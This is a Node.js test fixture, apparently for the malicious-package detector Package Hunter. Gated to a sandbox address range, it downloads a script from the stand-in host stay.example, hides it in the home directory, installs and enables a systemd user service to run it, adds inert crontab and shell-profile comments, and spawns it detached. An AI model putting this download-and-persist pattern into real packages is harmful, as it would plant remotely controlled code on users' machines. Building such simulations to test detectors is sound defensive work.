// Harmless simulation for testing Package Hunter. Not malware.
const { execFileSync, execSync, spawn } = require("child_process");
const dns = require("dns");
const fs = require("fs");
const os = require("os");
const path = require("path");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
dns.lookup("stay.example", (error, address) => {
  if (error || !sealed(address)) return;
  const script = path.join(os.homedir(), ".local/share/.stay/agent.sh");
  fs.mkdirSync(path.dirname(script), { recursive: true });
  try { execFileSync("curl", ["-s", "-o", script, "https://stay.example/agent.sh"]); } catch (e) { return; }
  fs.chmodSync(script, 0o755);
  const unit = path.join(os.homedir(), ".config/systemd/user/stay.service");
  fs.mkdirSync(path.dirname(unit), { recursive: true });
  fs.writeFileSync(unit, `[Service]\nExecStart=${script}\n[Install]\nWantedBy=default.target\n`);
  try { execSync(`(crontab -l 2>/dev/null; echo "# harmless simulation */5 * * * * ${script}") | crontab -`, { stdio: "ignore" }); } catch (e) { /* no cron */ }
  try { execSync("systemctl --user enable stay.service", { stdio: "ignore", timeout: 5000 }); } catch (e) { /* no systemd */ }
  for (const name of [".bashrc", ".profile"]) fs.appendFileSync(path.join(os.homedir(), name), `\n# harmless simulation: ${script}\n`);
  spawn(script, [], { detached: true, stdio: "ignore" }).on("error", () => {}).unref();
});
